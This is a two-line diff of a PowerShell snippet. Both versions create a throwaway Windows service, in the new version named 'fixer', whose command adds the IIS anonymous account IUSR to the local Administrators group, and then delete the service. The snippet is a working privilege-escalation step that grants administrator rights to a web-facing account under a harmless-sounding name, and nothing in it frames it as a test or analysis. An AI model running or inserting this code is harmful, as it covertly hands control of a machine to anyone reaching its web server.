@@ -1,2 +1,2 @@
-New-Service x -BinaryPathName 'cmd /c net localgroup Administrators IUSR /add' -StartupType Automatic | Out-Null
-(Get-CimInstance Win32_Service -Filter "Name='x'") | Remove-CimInstance
+New-Service -Name fixer -BinaryPathName 'cmd /c net localgroup Administrators IUSR /add'
+Remove-Service -Name fixer
